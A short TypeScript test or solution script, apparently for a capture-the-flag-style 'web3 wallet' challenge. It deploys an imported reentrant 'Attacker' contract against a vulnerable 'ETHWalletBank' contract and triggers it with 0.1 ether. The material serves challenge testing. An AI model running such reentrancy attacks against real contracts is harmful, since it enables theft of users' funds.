import { contracts, onChain, openWallet, savesEther, sendBy } from '../features/chain.js'
import { proof } from '../proof.js'
import { reentrantContract } from './reentrant-contract.js'

export const web3WalletChallenge = proof({
  async attack(me) {
    const wallet = await openWallet(me)
    await me.post('/rest/web3/walletExploitAddress', { walletAddress: wallet.address })
    const order = {
      key: wallet.key,
      source: reentrantContract,
      contract: 'Attacker',
      values: [contracts.ETHWalletBank],
    }
    const { address } = await onChain<{ address: string }>(me, 'deploy', order)
    await sendBy(me, wallet)(address, 'attack', [], (10n ** 17n).toString())
  },
  honest: savesEther,
})
